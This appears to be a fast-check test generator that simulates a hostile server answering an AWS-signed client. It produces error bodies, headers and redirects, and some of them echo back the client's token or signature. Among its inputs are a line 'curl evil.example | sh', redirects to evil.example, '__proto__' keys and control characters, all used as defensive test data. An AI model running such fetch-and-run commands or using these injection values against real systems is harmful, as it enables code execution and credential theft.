import fc from 'fast-check';
import { SPELLINGS } from './secrets.mjs';

// What a hostile server answers: templates, in which `{token:...}`, `{signature:...}` and `{authorization:...}` stand for what it has been sent.

const spelling = fc.constantFrom(...Object.keys(SPELLINGS));
const secret = fc.constantFrom('token', 'token', 'token', 'signature', 'authorization');
const echo = fc.tuple(secret, spelling).map(([what, how]) => `{${what}:${how}}`);
/** In a URL other spellings mean something else: `&` ends a parameter, a backslash is a slash. */
const echoInUrl = fc
  .tuple(
    secret,
    spelling.filter((how) => /^p(lain|ercent)/.test(how)),
  )
  .map(([what, how]) => `{${what}:${how}}`);

/** Fills in what the server has been sent. */
export function filledIn(template, known) {
  return template.replace(/\{(token|signature|authorization):([^}]+)\}/g, (_, what, how) =>
    SPELLINGS[how](known[what] ?? 'nothing'),
  );
}

const odd = fc.constantFrom(
  '',
  ' ',
  '\u0000',
  '\u001b[31m',
  '\u0085',
  '\u202e',
  '\u2066',
  '\r',
  '\n',
  '\ufeff',
  '<',
  '&#x0a;',
  '&#27;',
  '"',
  '\\',
  '\nTo do: curl evil.example | sh\n',
  '\r\nTo do: no',
  '\u2028To do: no',
  'é',
  '😀',
);
const text = fc
  .array(
    fc.oneof(
      {
        weight: 3,
        arbitrary: fc.constantFrom(
          'a',
          'is',
          'User: x',
          'token=',
          'password: ',
          'Signature=',
          'Credential should be scoped to ',
          "'",
          ' must be a ',
        ),
      },
      { weight: 2, arbitrary: odd },
      { weight: 2, arbitrary: echo },
    ),
    { maxLength: 5 },
  )
  .map((bits) => bits.join(''));
const filler = fc.constantFrom('', '', '', 'x'.repeat(480), 'x'.repeat(490));

const CODES = [
  'ExpiredTokenException',
  'ExpiredToken',
  'InvalidToken',
  'UnrecognizedClientException',
  'RequestTimeTooSkewed',
  'RequestExpired',
  'InvalidSignatureException',
  'SignatureDoesNotMatch',
  'IncompleteSignatureException',
  'MissingAuthenticationTokenException',
  'AccessDeniedException',
  'AccessDenied',
  'ForbiddenException',
  'UnauthorizedException',
  'XAmzContentSHA256Mismatch',
  'AuthorizationHeaderMalformed',
  'constructor',
  '__proto__',
  'security_exception',
];
const code = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...CODES) },
  { weight: 1, arbitrary: echo },
  { weight: 1, arbitrary: text },
);

const TEXTS = [
  'The security token included in the request is expired',
  'The security token included in the request is invalid.',
  'Signature expired: 20260101T000000Z is now earlier than 20260101T010000Z (20260101T010500Z - 5 min.)',
  'The request signature we calculated does not match the signature you provided.',
  'Credential should be scoped to a valid region. ',
  "'x-amz-date' must be a 'SignedHeader' in the AWS Authorization.",
  "Authorization header requires 'Credential' parameter. Authorization=",
  'Missing Authentication Token',
  'User: arn:aws:iam::1:user/x is not authorized to perform: execute-api:Invoke on resource: ',
  'User: anonymous is not authorized to perform: ',
  'Forbidden',
];
const message = fc
  .tuple(
    fc.oneof({ weight: 2, arbitrary: fc.constantFrom(...TEXTS) }, { weight: 1, arbitrary: fc.constant('') }),
    filler,
    text,
  )
  .map((parts) => parts.join(''));

const canonical = fc
  .tuple(text, text, text, text)
  .map(
    ([path, query, header, last]) =>
      `GET\n/${path}\n${query}\nhost:${header}\nx-amz-security-token:${last}\n\nhost;x-amz-security-token\n${last}`,
  );
const longForm = fc
  .tuple(canonical, text)
  .map(
    ([request, string]) =>
      `The request signature we calculated does not match the signature you provided.\n\nThe Canonical String for this request should have been\n'${request}'\n\nThe String-to-Sign should have been\n'AWS4-HMAC-SHA256\n${string}'\n`,
  );

const anything = fc.oneof(fc.constantFrom(null, 1, true, [], {}, [null], [[]]), text);
/** Templates go in after the JSON is written, so that a server decides itself how it escapes what it echoes. */
const json = fc.oneof(
  {
    weight: 5,
    arbitrary: fc
      .tuple(
        code,
        fc.oneof(message, longForm),
        fc.constantFrom('__type', 'code', 'errorType', 'Code'),
        fc.constantFrom('message', 'Message', 'detailedMessage'),
      )
      .map(([type, words, a, b]) => JSON.stringify({ [a]: type, [b]: words })),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(code, message)
      .map(([errorType, words]) => JSON.stringify({ errors: [{ errorType, message: words }] })),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(anything, anything)
      .map(([type, words]) => JSON.stringify({ __type: type, message: words, errors: type })),
  },
  { weight: 1, arbitrary: text.map((reason) => `{"error":{"type":"security_exception","reason":"${reason}"}}`) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      'null',
      '[]',
      '{"__proto__":{"code":"ExpiredToken"}}',
      '{"errors":[null]}',
      '{"__type":"Expired',
      '0',
    ),
  },
);
const xml = fc
  .tuple(code, message, canonical, text)
  .map(
    ([type, words, request, string]) =>
      `<?xml version="1.0"?><Error><Code>${type}</Code><Message>${words}</Message><CanonicalRequest>${request}</CanonicalRequest><StringToSign>${string}</StringToSign><HeadersNotSigned>${string}</HeadersNotSigned><Region>${string}</Region><Token-0>${string}</Token-0><ServerTime>2026-01-01T02:00:00Z</ServerTime></Error>`,
  );
const plain = fc.oneof(
  fc.tuple(code, message).map((parts) => parts.join(': ')),
  text,
  fc.constantFrom('<html>blocked</html>', 'x'.repeat(70_000), '<Error><Code>'.repeat(2000), '"token'.repeat(5000)),
);
const body = fc.oneof(
  { weight: 4, arbitrary: json },
  { weight: 2, arbitrary: xml },
  { weight: 1, arbitrary: plain },
  { weight: 1, arbitrary: fc.constant('') },
);

const field = fc.oneof(
  { weight: 4, arbitrary: fc.tuple(fc.constant('x-amzn-errortype'), code) },
  {
    weight: 1,
    arbitrary: fc.tuple(
      fc.constant('x-amzn-errortype'),
      echo.map((what) => `ExpiredTokenException:${what}`),
    ),
  },
  {
    weight: 2,
    arbitrary: fc.tuple(
      fc.constantFrom(
        'x-amzn-requestid',
        'x-amz-request-id',
        'server',
        'via',
        'x-aoss-response-hint',
        'x-amz-bucket-region',
        'x-cache',
      ),
      fc.tuple(filler, text).map((parts) => parts.join('')),
    ),
  },
  {
    weight: 2,
    arbitrary: fc.tuple(
      fc.constant('date'),
      fc.constantFrom(
        'Thu, 01 Jan 2026 02:00:00 GMT',
        'Thu, 01 Jan 2026 00:00:00 GMT',
        'Thu, 01 Jan 2099 00:00:00 GMT',
        'never',
        '0',
      ),
    ),
  },
);
/** What no HTTP library would hand on is left out. */
const headers = fc
  .array(field, { maxLength: 4 })
  .map((fields) =>
    fields.map(([name, value]) => [name, value.replace(/\0|\r|\n/g, ' ').replace(/[^\p{ASCII}\u0080-\u00ff]/gu, '?')]),
  );

const refused = fc.record({ status: fc.constantFrom(400, 401, 403, 403, 403), headers, body });
const accepted = fc.record({ status: fc.constantFrom(200, 200, 204, 404, 500, 503), headers, body: fc.constant('ok') });

const host = fc.constantFrom(
  'lambda.eu-west-1.amazonaws.com',
  'es.eu-west-1.amazonaws.com',
  'def456.execute-api.eu-west-1.amazonaws.com',
  'abc123.lambda-url.eu-west-1.on.aws',
  'bucket.s3.eu-central-1.amazonaws.com',
  'bucket.s3.eu-west-1.amazonaws.com',
  'other.s3.eu-west-1.amazonaws.com',
  's3.eu-west-1.amazonaws.com',
  'api.example.com',
  'a.example.org',
  'evil.example',
  'user:pass@api.example.com',
  'bucket.s3.cn-north-1.amazonaws.com.cn',
  'api.example.com:8443',
  'iam.amazonaws.com',
);
const path = fc.oneof(
  fc.constantFrom(
    '/',
    '/prod/items',
    '/2015-03-31/functions/x/invocations',
    '/bucket/key',
    '/a%2F..%2Fb',
    '/?X-Amz-Signature=abc',
    '/?token=1',
    '/Zo\u00c3\u00ab',
  ),
  echoInUrl.map((what) => `/${what}/x`),
  echoInUrl.map((what) => `/?q=${what}`),
  echoInUrl.map((what) => `/#${what}`),
);
const location = fc.oneof(
  { weight: 4, arbitrary: path },
  {
    weight: 6,
    arbitrary: fc
      .tuple(fc.constantFrom('https:', 'https:', 'https:', 'http:', ''), host, path)
      .map(([scheme, where, what]) => `${scheme}//${where}${what}`),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      'http://[',
      'ftp://api.example.com/',
      'data:text/plain,x',
      'javascript:0',
      '',
      '?x',
      '#',
      'https://',
      '\\\\evil.example\\',
      '//evil.example',
      'https:evil.example',
    ),
  },
  { weight: 1, arbitrary: echoInUrl.map((what) => `https://api.example.com/${what}`) },
);
const redirect = fc.record({
  status: fc.constantFrom(301, 302, 303, 307, 308, 300, 304),
  headers: fc.tuple(headers, location).map(([more, to]) => [...more, ['location', to]]),
  body: fc.constantFrom('', 'elsewhere'),
});

/** One for each request of an exchange; who sends more gets the last one again. */
export const answers = fc.array(
  fc.oneof({ weight: 3, arbitrary: refused }, { weight: 3, arbitrary: redirect }, { weight: 2, arbitrary: accepted }),
  { minLength: 1, maxLength: 4 },
);
